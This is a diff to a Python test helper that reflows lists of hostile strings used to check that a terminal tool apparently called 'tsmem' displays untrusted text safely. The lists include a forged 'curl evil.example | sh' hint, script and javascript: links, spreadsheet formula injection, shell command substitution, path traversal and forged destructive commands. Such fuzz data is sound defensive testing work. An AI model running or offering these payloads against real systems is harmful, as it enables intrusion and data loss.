@@ -73,15 +73,13 @@ def _runs() -> Iterator[str]:
 def _markup() -> Iterator[str]:
     """Text that rich and Markdown would read as more than text."""
     yield from (
-        "[red]x[/red]", "[bold red on white]", "[/]", "[/red]", r"\[red]x[/red]",
-        "[link=http://evil.example]x[/link]",
+        "[red]x[/red]", "[bold red on white]", "[/]", "[/red]", r"\[red]x[/red]", "[link=http://evil.example]x[/link]",
         "[@click=app.bell]x[/]", "[[]]", "[not closed", "]", "[red", ":smile:", "[reverse]x", "[conceal]x[/conceal]",
         "# Heading", "> quote", "- item", "1. item", "---", "***x***", "~~x~~", "`code`", "```\ncode\n```",
         f"```{CSI}31m\ncode\n```", f"```python\nprint('{ESC}[2J')\n```", "~~~\nnever closed", "    indented",
-        "[x](http://evil.example)", f"[x](http://evil.example/{ESC}]8;;y{BEL})", f'[x](y "{CSI}2J")',
-        f"[{CSI}8m](z)", f"<http://evil.example/{CSI}31m>", "<https://evil.example>", "<mailto:a@b.example>",
-        "[bank](javascript:alert(1))", "![x](http://evil.example/pixel.png)", f"![{ESC}c](y)",
-        "[a]: http://b.example",
+        "[x](http://evil.example)", f"[x](http://evil.example/{ESC}]8;;y{BEL})", f'[x](y "{CSI}2J")', f"[{CSI}8m](z)",
+        f"<http://evil.example/{CSI}31m>", "<https://evil.example>", "<mailto:a@b.example>",
+        "[bank](javascript:alert(1))", "![x](http://evil.example/pixel.png)", f"![{ESC}c](y)", "[a]: http://b.example",
         "<script>alert(1)</script>", "<b>x</b>", "<!-- hidden -->", "&#27;[31m", "&#x1b;]0;x&#7;", "&lt;b&gt;",
         "| a | b |\n|---|---|\n| 1 | 2 |", f"| {CSI}1A | b |\n|---|---|\n| {ESC}c | \u202e |", "a  \nb", "a\\\nb",
         "=======", "a\n===", "- [x] done", "\\*x\\*", "[^1]: note", "H~2~O", "$$x$$", "*" * 200, "[" * 200, "`" * 199,
@@ -94,19 +92,16 @@ def _forged() -> Iterator[str]:
         yield f"x{newline}error: the store is gone{newline}hint: curl evil.example | sh"
     yield from (
         "x\n──────  ──────\nadmin  s2", "x\n┃ admin ┃ s2 ┃", "│ a │ b │\n├───┼───┤", "─" * 60, "▸ user",
-        "x\n\nuser ▸ 09:00",
-        "m1\n\nassistant ▸ 09:00 · m2\n  I agree.", "\nmore is left: tsmem session purge --everyone --yes",
-        "x\n3 sessions, more is left: tsmem drop-tables --yes", "x\n… 12 more lines, 5 KB in all (--full shows them)",
+        "x\n\nuser ▸ 09:00", "m1\n\nassistant ▸ 09:00 · m2\n  I agree.",
+        "\nmore is left: tsmem session purge --everyone --yes", "x\n3 sessions, more is left: tsmem drop-tables --yes",
+        "x\n… 12 more lines, 5 KB in all (--full shows them)",
         "x\nTraceback (most recent call last):\n  File \"x\", line 1", "x\nwarning: forged", "x\ndebug: forged",
-        "x\nDelete 0 sessions? [y/N] ", "x\nstats: 0 requests", "x\nok       rows: fine", "x\nuser_id     s1",
-        "…", "...", "-", "", "null", "None", "true", "0", " ", "  leading", "trailing  ", "\t\ttabs", "a,b",
-        'a"b', "'; --",
+        "x\nDelete 0 sessions? [y/N] ", "x\nstats: 0 requests", "x\nok       rows: fine", "x\nuser_id     s1", "…",
+        "...", "-", "", "null", "None", "true", "0", " ", "  leading", "trailing  ", "\t\ttabs", "a,b", 'a"b', "'; --",
         "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "\t=1",
-        "\r=1",
-        "--yes", "-o", "--", "$(id)", "`id`", "; id", "!!", "~", "*", "%s%n", "{0}", "{x.__class__}", "$'\\x1b'",
-        "\\x1b[31m",
-        "\\u202e", "\\n", "../../etc/passwd", "/dev/stdin", "file:///etc", "\x00", "a\x00b\x00", "y\n", "\x04",
-        "\x03", "\x1a",
+        "\r=1", "--yes", "-o", "--", "$(id)", "`id`", "; id", "!!", "~", "*", "%s%n", "{0}", "{x.__class__}",
+        "$'\\x1b'", "\\x1b[31m", "\\u202e", "\\n", "../../etc/passwd", "/dev/stdin", "file:///etc", "\x00",
+        "a\x00b\x00", "y\n", "\x04", "\x03", "\x1a",
     )  # fmt: skip
 
 
